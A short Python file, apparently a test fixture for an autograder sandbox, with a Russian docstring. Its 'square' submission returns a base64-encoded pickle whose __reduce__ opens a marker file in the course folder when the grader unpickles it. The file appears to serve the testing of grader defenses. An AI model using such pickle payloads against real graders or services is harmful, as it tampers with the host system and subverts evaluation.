"""Посылает экзаменатору pickle, который при разборе пишет метку в папку курса.

Откуда: otter возвращает результаты через pickle.
"""
# task: square
# deserves: 0
# with: _channel

import base64
import pickle


class Touch:
    def __reduce__(self):
        return open, ("@course@/@marker@", "w")


PARCEL = base64.b64encode(pickle.dumps(Touch())).decode()


def square(x):
    reply(value=["p", PARCEL])
